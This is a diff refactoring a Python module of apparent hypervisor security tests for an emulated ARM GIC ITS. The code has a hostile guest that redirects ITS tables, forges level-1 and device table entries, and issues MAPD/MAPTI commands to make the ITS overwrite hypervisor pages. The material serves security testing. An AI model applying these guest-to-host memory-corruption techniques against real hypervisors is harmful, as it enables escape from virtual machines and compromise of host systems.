@@ -8,38 +8,24 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING, Final
 
-from itsbox.arch.its_commands import INT, MAPD, MAPTI
+from itsbox.arch.its_commands import INT, MAPTI
 from itsbox.arch.its_registers import GITS_BASER, TABLE_DEVICES, baser_stored_address
-from itsbox.arch.its_tables import DTE, ITT_ALIGNMENT, L1_ENTRY_SIZE, L1Entry
+from itsbox.arch.its_tables import DTE, L1_ENTRY_SIZE, L1Entry
 from itsbox.arch.values import FIRST_LPI, PAGE_SIZE, SIZE_64K
 from itsbox.arch.words import high_half, low_half
+from itsbox.host.attacks import EVENT_BITS
 
 if TYPE_CHECKING:
     from itsbox.host.attacks import HostileHost
 
 __all__ = [
-    "EVENT_BITS", "VICTIM_DEVICE", "baser_half_switched", "baser_to_hyp_page", "forged_dte", "forged_level_2",
+    "VICTIM_DEVICE", "baser_half_switched", "baser_to_hyp_page", "forged_dte", "forged_level_2",
     "level_1_to_hyp_page",
 ]  # fmt: skip
 
 VICTIM_DEVICE: Final = 0x40
 """A DeviceID that level-2 page 0 covers, and that the driver does not use."""
-EVENT_BITS: Final = 4
-"""MAPD's Size field: 32 events, 384 bytes of translation table on the ``virt`` machines."""
 _CRAFTED: Final = FIRST_LPI + 0x155
-
-
-def _itt(host: HostileHost) -> int:
-    """A translation table that every version of the series accepts as an address: not page aligned, or page aligned."""
-    return host.pages() + ITT_ALIGNMENT
-
-
-def _map_into(host: HostileHost, device_id: int) -> None:
-    """Map a device with a harmless table: what counts is where its *entry* lands."""
-    itt = _itt(host)
-    command = MAPD(device_id=device_id, size=EVENT_BITS, itt_addr=itt, valid=1)
-    if host.post(command) == ["refused"]:
-        host.post(command.replace(itt_addr=itt - ITT_ALIGNMENT))  # some versions want whole pages
 
 
 def baser_to_hyp_page(host: HostileHost) -> None:
@@ -65,7 +51,7 @@ def baser_to_hyp_page(host: HostileHost) -> None:
         host.say("Enable the ITS, which takes the table over.")
         host.enable(True)
         host.say("Map a device: the ITS writes its entry into the hypervisor's page.")
-        _map_into(host, VICTIM_DEVICE)
+        host.map_own(VICTIM_DEVICE)
     host.show("The same page, after.", victim + 8 * VICTIM_DEVICE)
 
 
@@ -89,7 +75,7 @@ def baser_half_switched(host: HostileHost) -> None:
     host.say("Enable it between and after.")
     host.enable(True)
     host.say("Map a device through whatever table this has become.")
-    _map_into(host, VICTIM_DEVICE + 1)
+    host.map_own(VICTIM_DEVICE + 1)
     host.show("The hypervisor's page where a flat table's entry would be.", victim + 8 * (VICTIM_DEVICE + 1))
 
 
@@ -105,13 +91,13 @@ def level_1_to_hyp_page(host: HostileHost) -> None:
     host.say("Write a level-1 entry that names the hypervisor's memory.")
     host.store(slot, L1Entry.STRUCT.pack(*L1Entry(address=victim, valid=1).encode()))
     host.say("Map a device that this level-1 entry covers.")
-    _map_into(host, device_id)
+    host.map_own(device_id)
     host.say("Reach the walk by another command, in case only MAPD is looked at.")
     host.post(INT(device_id=device_id, event_id=0))
     host.show("The same place, after.", victim + 3 * 8)
     host.say("The same with a page of the guest, and a second entry.")
     host.store(slot + L1_ENTRY_SIZE, L1Entry.STRUCT.pack(*L1Entry(address=host.guest_page(), valid=1).encode()))
-    _map_into(host, device_id + host.per_page(TABLE_DEVICES))
+    host.map_own(device_id + host.per_page(TABLE_DEVICES))
 
 
 def forged_level_2(host: HostileHost) -> None:
@@ -130,7 +116,7 @@ def forged_level_2(host: HostileHost) -> None:
     host.say("Add it to level 1, as a driver does for new DeviceIDs.")
     host.store(slot, L1Entry.STRUCT.pack(*L1Entry(address=page, valid=1).encode()))
     host.say("Have it taken over by mapping another device that it covers, harmlessly.")
-    _map_into(host, device_id)
+    host.map_own(device_id)
     host.say("Use the forged entry: an interrupt translation entry goes where it says.")
     host.post(MAPTI(device_id=device_id + 1, event_id=0, intid=_CRAFTED, icid=0))
     host.show("The victim, after.", victim)
@@ -141,7 +127,7 @@ def forged_dte(host: HostileHost) -> None:
     victim = host.hyp_page(5)
     host.show("The victim: a page of the hypervisor, before.", victim)
     host.say("Map a device honestly, so that there is an entry.")
-    _map_into(host, VICTIM_DEVICE + 2)
+    host.map_own(VICTIM_DEVICE + 2)
     at = host.table_entry(TABLE_DEVICES, VICTIM_DEVICE + 2)
     if at is None:
         return
